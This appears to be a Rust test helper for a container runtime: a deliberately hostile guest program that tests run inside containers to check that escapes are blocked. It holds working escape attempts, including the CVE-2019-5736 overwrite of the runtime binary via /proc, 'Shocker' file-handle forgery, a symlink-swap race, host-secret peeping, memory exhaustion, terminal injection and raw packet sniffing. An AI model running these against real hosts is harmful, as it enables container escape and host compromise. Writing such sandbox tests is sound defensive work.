//! A hostile guest: run inside of containers by the tests. Each word of its command line is an
//! attack; it prints what came of it, one line each, and leaves the judgement to the test.

#![allow(clippy::unwrap_used)]

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::fs::OpenOptionsExt;
use std::time::{Duration, Instant};

use osctl_linux::attempt::{self, Compat};
use rustix::net::{AddressFamily, RecvFlags, SendFlags, SocketFlags, SocketType, socket_with};

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    match words[..] {
        ["calls"] => calls(),
        ["sockets"] => sockets(),
        ["compat"] => compat(),
        ["handles"] => handles(),
        ["type", text] => type_text(text),
        ["write", ..] => write_all(&words[1..]),
        ["read", ..] => read_all(&words[1..]),
        ["overwrite", seconds] => overwrite(seconds.parse().unwrap()),
        ["peep", seconds] => peep(seconds.parse().unwrap()),
        ["allocate"] => allocate(),
        ["swap", victim, ..] => swap(victim, &words[2..]),
        ["frames", netif, ..] => frames(netif, &words[2..]),
        ["sniff", netif, wanted, last] => sniff(netif, wanted, last),
        _ => {
            println!("no such attack: {words:?}");
            std::process::exit(2);
        }
    }
}

fn calls() {
    for (name, _) in attempt::CALLS {
        match attempt::call(name) {
            Ok(()) => println!("{name} DONE"),
            Err(e) => println!("{name} {:?}", e.errno()),
        }
    }
}

/// Address families by name.
const FAMILIES: &[(&str, u16)] = &[
    ("unix", 1),
    ("inet", 2),
    ("inet6", 10),
    ("netlink", 16),
    ("packet", 17),
    ("rds", 21),
    ("can", 29),
    ("tipc", 30),
    ("alg", 38),
    ("vsock", 40),
    ("qipcrtr", 42),
    ("smc", 43),
    ("xdp", 44),
];

fn sockets() {
    for (name, family) in FAMILIES {
        let family = AddressFamily::from_raw(*family);
        let kinds = [
            SocketType::STREAM,
            SocketType::DGRAM,
            SocketType::SEQPACKET,
            SocketType::RAW,
        ];
        let made = kinds
            .into_iter()
            .map(|kind| socket_with(family, kind, SocketFlags::CLOEXEC, None));
        let (done, refused): (Vec<_>, Vec<_>) = made.partition(Result::is_ok);
        match refused.into_iter().find_map(Result::err) {
            Some(e) if done.is_empty() => println!("{name} {e:?}"),
            _ => println!("{name} DONE"),
        }
    }
}

fn compat() {
    println!("getpid {}", attempt::i386_call(Compat::Getpid));
    for (name, family) in [("unix", 1), ("alg", 38), ("vsock", 40)] {
        println!("{name} {}", attempt::i386_call(Compat::Socket { family }));
    }
    println!("kexec_load {}", attempt::i386_call(Compat::KexecLoad));
    println!("init_module {}", attempt::i386_call(Compat::InitModule));
    println!(
        "open_by_handle_at {}",
        attempt::i386_call(Compat::OpenByHandle)
    );
}

/// The "Shocker": files of the whole file system by their numbers.
fn handles() {
    let root = File::open("/").unwrap();
    let own = attempt::handle_of("/").unwrap();
    println!(
        "own {:?}",
        attempt::open_handle(&root, &own)
            .map(drop)
            .map_err(|e| e.errno())
    );
    for inode in [2u32, 12, 13, 100] {
        let mut forged = own.clone();
        forged.data[..4].copy_from_slice(&inode.to_ne_bytes());
        forged.data[4..8].fill(0);
        let done = attempt::open_handle(&root, &forged)
            .map(drop)
            .map_err(|e| e.errno());
        println!("inode {inode} {done:?}");
    }
}

fn type_text(text: &str) {
    let terminal = std::io::stdin();
    for byte in text.bytes().chain([b'\n']) {
        if let Err(e) = attempt::type_into(terminal.as_fd(), byte) {
            println!("typed {:?}", e.errno());
            break;
        }
    }
    match attempt::paste_into(terminal.as_fd()) {
        Ok(()) => println!("pasted"),
        Err(e) => println!("pasted {:?}", e.errno()),
    }
}

fn write_all(paths: &[&str]) {
    for path in paths {
        let opened = OpenOptions::new()
            .write(true)
            .custom_flags(rustix::fs::OFlags::NONBLOCK.bits().cast_signed())
            .open(path);
        if opened.as_ref().is_ok_and(is_null) {
            println!("{path} masked");
            continue;
        }
        // A newline is no value for any of these.
        let done = opened.and_then(|mut f| f.write_all(b"\n"));
        match done {
            Ok(()) => println!("{path} DONE"),
            Err(e) => println!("{path} {}", e.kind()),
        }
    }
}

/// Whether a file is /dev/null, by which others are hidden.
fn is_null(file: &File) -> bool {
    use std::os::unix::fs::{FileTypeExt, MetadataExt};
    file.metadata()
        .is_ok_and(|m| m.file_type().is_char_device() && m.rdev() == rustix::fs::makedev(1, 3))
}

fn read_all(paths: &[&str]) {
    for path in paths {
        let flags = rustix::fs::OFlags::NONBLOCK.bits().cast_signed();
        let opened = OpenOptions::new().read(true).custom_flags(flags).open(path);
        let mut buffer = [0; 512];
        match opened.and_then(|mut f| std::io::Read::read(&mut f, &mut buffer)) {
            Ok(n) => println!("{path} {n}"),
            Err(e) => println!("{path} {}", e.kind()),
        }
    }
}

fn others() -> Vec<u32> {
    let me = std::process::id();
    let entries = fs::read_dir("/proc").unwrap().flatten();
    entries
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .filter(|pid| *pid != me)
        .collect()
}

/// CVE-2019-5736: gets hold of the program of whoever enters, and writes to it.
fn overwrite(seconds: u64) {
    let end = Instant::now() + Duration::from_secs(seconds);
    let (mut held, mut written) = (Vec::new(), 0);
    while Instant::now() < end {
        for pid in others() {
            for path in [format!("/proc/{pid}/exe"), format!("/proc/{pid}/map_files")] {
                let Ok(file) = File::open(&path) else {
                    continue;
                };
                let name = fs::read_link(&path)
                    .unwrap_or_default()
                    .display()
                    .to_string();
                if name.contains("osctl") || name.contains("memfd") {
                    held.push((name, file));
                }
            }
            for way in [format!("/proc/{pid}/exe"), format!("/proc/{pid}/mem")] {
                let name = fs::read_link(format!("/proc/{pid}/exe")).unwrap_or_default();
                let name = name.display().to_string();
                let opened = OpenOptions::new().write(true).open(&way);
                if opened.is_ok() && (name.contains("osctl-runtime") || name.contains("memfd")) {
                    written += 1;
                    println!("WRITE {way} {name}");
                }
            }
        }
        for (name, file) in &held {
            let fd = std::os::fd::AsRawFd::as_raw_fd(file);
            let again = OpenOptions::new()
                .write(true)
                .open(format!("/proc/self/fd/{fd}"));
            if let Ok(mut again) = again
                && again.write_all(b"#!/bin/sh\n").is_ok()
            {
                written += 1;
                println!("WRITE {name}");
            }
        }
        held.truncate(64);
    }
    println!("held {} written {written}", held.len());
}

/// Looks for anything of the host in whoever enters: its root, its directory, its descriptors.
fn peep(seconds: u64) {
    let end = Instant::now() + Duration::from_secs(seconds);
    let (mut seen, mut looked) = (0, 0);
    while Instant::now() < end {
        for pid in others() {
            looked += 1;
            let secret = format!("/proc/{pid}/root/osctl-host-secret");
            if fs::metadata(&secret).is_ok() {
                println!("SEEN {secret}");
                seen += 1;
            }
            for link in ["root", "cwd"] {
                if let Ok(target) = fs::read_link(format!("/proc/{pid}/{link}")) {
                    let target = target.display().to_string();
                    if target.contains("osctl-t") || target.starts_with("(unreachable)") {
                        println!("SEEN {link} {target}");
                        seen += 1;
                    }
                }
            }
            for entry in fs::read_dir(format!("/proc/{pid}/fd"))
                .into_iter()
                .flatten()
                .flatten()
            {
                let Ok(target) = fs::read_link(entry.path()) else {
                    continue;
                };
                let target = target.display().to_string();
                if target.contains("osctl") || target.contains("memfd") || target.contains("/pool-")
                {
                    println!("SEEN fd {target}");
                    seen += 1;
                }
                // A directory of the host would be a way out.
                if let Ok(names) = fs::read_dir(entry.path())
                    && names
                        .flatten()
                        .any(|e| e.file_name() == "osctl-host-secret")
                {
                    println!("SEEN directory {target}");
                    seen += 1;
                }
            }
            let environment = fs::read(format!("/proc/{pid}/environ")).unwrap_or_default();
            if String::from_utf8_lossy(&environment).contains("NOTIFY_SOCKET") {
                println!("SEEN environment of the daemon");
                seen += 1;
            }
        }
    }
    println!(
        "looked {} seen {seen}",
        if looked > 0 { "yes" } else { "no" }
    );
}

/// Exchanges directories with symbolic links to `victim`, again and again.
fn swap(victim: &str, places: &[&str]) {
    use rustix::fs::{CWD, RenameFlags, renameat_with, symlink};
    for place in places {
        symlink(victim, format!("{place}.link")).unwrap();
    }
    loop {
        for place in places {
            let link = format!("{place}.link");
            // While something is mounted on it, or its parent is elsewhere, it can't be done.
            let _ = renameat_with(CWD, *place, CWD, &link, RenameFlags::EXCHANGE);
        }
    }
}

fn allocate() {
    let mut all = Vec::new();
    loop {
        all.push(vec![1u8; 1024 * 1024]);
        if all.len() % 64 == 0 {
            println!("{} MiB", all.len());
        }
    }
}

/// A raw socket of an interface.
fn packet_socket(netif: &str) -> OwnedFd {
    let index = fs::read_to_string(format!("/sys/class/net/{netif}/ifindex")).unwrap();
    attempt::packet_socket(index.trim().parse().unwrap()).unwrap()
}

fn unhex(text: &str) -> Vec<u8> {
    let digits = text.as_bytes().chunks(2);
    digits
        .map(|d| u8::from_str_radix(str::from_utf8(d).unwrap(), 16).unwrap())
        .collect()
}

/// Sends frames as they are, in order.
fn frames(netif: &str, frames: &[&str]) {
    let socket = packet_socket(netif);
    for frame in frames {
        match rustix::net::send(&socket, &unhex(frame), SendFlags::empty()) {
            Ok(n) => println!("sent {n}"),
            Err(e) => println!("refused {e:?}"),
        }
    }
}

/// Prints the frames with `wanted` in them that arrive before one with `last` in it.
fn sniff(netif: &str, wanted: &str, last: &str) {
    let (wanted, last) = (unhex(wanted), unhex(last));
    let socket = packet_socket(netif);
    println!("ready");
    let mut buffer = [0; 65536];
    let has = |frame: &[u8], what: &[u8]| frame.windows(what.len()).any(|w| w == what);
    loop {
        let (n, _) = rustix::net::recv(&socket, &mut buffer[..], RecvFlags::empty()).unwrap();
        let frame = &buffer[..n];
        if has(frame, &wanted) {
            let text: String = frame.iter().map(|b| format!("{b:02x}")).collect();
            println!("arrived {text}");
        }
        if has(frame, &last) {
            return println!("last");
        }
    }
}
